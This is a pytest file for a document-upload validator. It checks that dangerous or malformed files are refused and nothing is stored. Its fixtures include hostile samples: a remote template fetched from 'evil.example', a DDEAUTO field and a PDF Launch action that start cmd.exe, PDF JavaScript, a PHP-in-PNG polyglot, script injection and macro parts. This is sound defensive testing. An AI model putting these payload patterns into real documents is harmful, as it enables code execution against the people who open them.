"""Bad uploads: one clear message, and nothing is kept."""

from collections.abc import Callable
from pathlib import Path

import pytest

from rectify.ledger.models import Evidence
from tests.ledger.evidence.files import (
    archive,
    bomb,
    document,
    huge_picture,
    package,
    pdf,
    picture,
    report_pdf,
    saved,
    with_parts,
    workbook,
)

RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{}" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le")
MACRO_SHEET = package({"[Content_Types].xml": "spreadsheetml", "xl/vbaProject.bin": "x"})
MACRO_TYPES = "application/vnd.ms-word.document.macroEnabled.main+xml"

BAD: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "empty": ("a.pdf", b"", "是空的"),
    "blank": ("a.txt", b" \n\n ", "没有可读的文字"),
    "a picture named as a document": ("a.pdf", picture(), "与后缀 .pdf 不符"),
    "a document named as a sheet": ("a.xlsx", document(), "与后缀 .xlsx 不符"),
    "a text named as a picture": ("a.jpg", "好".encode(), "与后缀 .jpg 不符"),
    "a program named as a picture": ("a.jpg", b"MZ" + b"\x90\0\x03" * 90, "可以提交 .pdf、.docx"),
    "a pdf without pages": ("a.pdf", pdf().replace(b"/Page ", b"/Pag_ "), "损坏，打不开"),
    "a program": ("a.exe", b"MZ" + b"\x90\0\x03" * 90, "a.exe"),
    "a program named as a document": ("a.docx", b"MZ" + b"\x90\0\x03" * 90, "a.docx"),
    "no suffix": ("README", "好".encode(), "不是可以提交的类型"),
    "a script": ("a.js", b"alert(1)", "不是可以提交的类型"),
    "a web page": ("a.html", b"<html><script>alert(1)</script></html>", "网页"),
    "a web page named as text": ("a.txt", b"\n <!DOCTYPE html><title>x</title>", "网页"),
    "svg": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "网页、SVG"),
    "svg named as text": ("a.txt", b"<?xml version='1.0'?><svg/>", "网页、SVG"),
    "svg named as a picture": ("a.png", b"<svg></svg>", "网页、SVG"),
    "old word": ("a.doc", OLE + "WordDocument".encode("utf-16-le"), "另存为 .docx"),
    "old sheet": ("a.xls", OLE + "Workbook".encode("utf-16-le"), "另存为 .xlsx"),
    "rich text": ("a.rtf", b"{\\rtf1 x}", "RTF"),
    "an archive": ("a.zip", archive(), "压缩包"),
    "an archive named as a document": ("a.docx", archive(), "压缩包"),
    "a gif": ("a.gif", b"GIF89a" + b"\0" * 50, "GIF"),
    "heic": ("a.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 50, "HEIC"),
    "macros": ("a.docm", with_parts(document(), {"word/vbaProject.bin": b"x"}), "含有宏"),
    "macros named as a document": ("a.docx", with_parts(document(), {"word/vbaProject.bin": b"x"}), "含有宏"),
    "macros by type": ("a.docx", package({"[Content_Types].xml": MACRO_TYPES}), "含有宏"),
    "macros of a sheet within": ("a.docx", with_parts(document(), {"word/embeddings/a.xlsx": MACRO_SHEET}), "含有宏"),
    "old macros of a sheet": (
        "a.xlsx", with_parts(saved(workbook([["x"]])), {"xl/macrosheets/sheet1.xml": "<x/>"}), "嵌有程序",
    ),
    "an embedded program": ("a.docx", with_parts(document(), {"word/embeddings/oleObject1.bin": OLE}), "嵌有程序"),
    "a field that starts a program": (
        "a.docx",
        with_parts(document(), {"word/header1.xml": "<w:p><w:instrText> DDEAUTO c:\\cmd.exe</w:instrText></w:p>"}),
        "嵌有程序",
    ),
    "a template from elsewhere": (
        "a.docx", with_parts(document(), {"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate")}), "取用模板",
    ),
    "macros by another name": ("a.docx", with_parts(document(), {"word/foo.bin": OLE}), "嵌有程序"),
    "encrypted office": ("a.docx", ENCRYPTED, "密码"),
    "a bomb": ("a.docx", bomb, "解压后有"),
    "entities": ("a.docx", with_parts(document(), {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), "XML 实体"),
    "a damaged package": ("a.docx", document()[:-300], "损坏"),
    "encrypted pdf": ("a.pdf", report_pdf(encrypt="geheim"), "密码"),
    "pdf with a script": ("a.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "脚本"),
    "pdf that starts programs": ("a.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "脚本"),
    "pdf with files in it": ("a.pdf", pdf("/Names << /EmbeddedFiles << /Names [] >> >>"), "附件"),
    "a cut pdf": ("a.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type", "损坏"),
    "something before a pdf": ("a.pdf", b"GARBAGE\n" + pdf(), "开头之前"),
    "pdf and archive": ("a.pdf", pdf() + archive(), "另一种文件（ZIP）"),
    "jpeg and archive": ("a.jpg", picture() + archive(), "另一种文件（ZIP）"),
    "jpeg and page": ("a.jpg", picture() + b"<script>alert(1)</script>", "另一种文件"),
    "jpeg and pdf": ("a.jpg", picture() + pdf(), "另一种文件"),
    "png and php": ("a.png", picture("PNG").replace(b"IDAT", b"IDAT<?php ", 1), "另一种文件"),
    "something behind a png": ("a.png", picture("PNG") + b"more", "末尾之后"),
    "something behind a webp": ("a.webp", picture("WEBP") + b"more", "末尾之后"),
    "something behind a document": ("a.docx", document() + b"more", "末尾之后"),
    "something before a document": ("a.docx", archive()[:40] + document(), "开头之前"),
    "a cut picture": ("a.jpg", picture(size=(900, 900))[:3000], "损坏"),
    "a huge picture": ("a.png", huge_picture(), "像素"),
    "broken encoding": ("a.txt", "好的，".encode() * 50 + b"\xff\xfe\xfd" + "好的".encode() * 50, "编码"),
    "binary as text": ("a.txt", bytes(range(256)) * 4, "a.txt"),
}  # fmt: skip


@pytest.mark.parametrize("kind", BAD)
def test_it_is_refused_with_a_clear_message(hand_in, kept: Callable[[], list[Path]], kind: str) -> None:
    name, data, words = BAD[kind]
    answer = hand_in(data() if callable(data) else data, name, text="说明还在")
    page = answer.content.decode()
    assert answer.status_code == 200
    errors = page.split('class="errorlist"')[1].split("</ul>")[0]
    assert words in errors, errors
    assert name in errors
    assert not [word for word in ("handed_in", "no pages", "控制字符") if word in errors]
    assert "说明还在" in page
    assert not Evidence.objects.exists()
    assert not kept()


def test_a_file_over_the_limit_says_how_large_it_may_be(hand_in, settings, kept: Callable[[], list[Path]]) -> None:
    settings.EVIDENCE_MAX_MB = 1
    page = hand_in(b"a" * (1024 * 1024 + 1), "a.txt").content.decode()
    assert "超过 1 MB 的上限" in page
    assert not kept()


def test_a_request_over_the_limit_never_reaches_the_disk(hand_in, settings, kept: Callable[[], list[Path]]) -> None:
    settings.UPLOAD_MAX_MB = 1
    page = hand_in(b"a" * (3 * 1024 * 1024), "a.txt", text="说明还在").content.decode()
    assert "合计超过 1 MB" in page
    assert "说明还在" in page
    assert not Evidence.objects.exists()
    assert not kept()
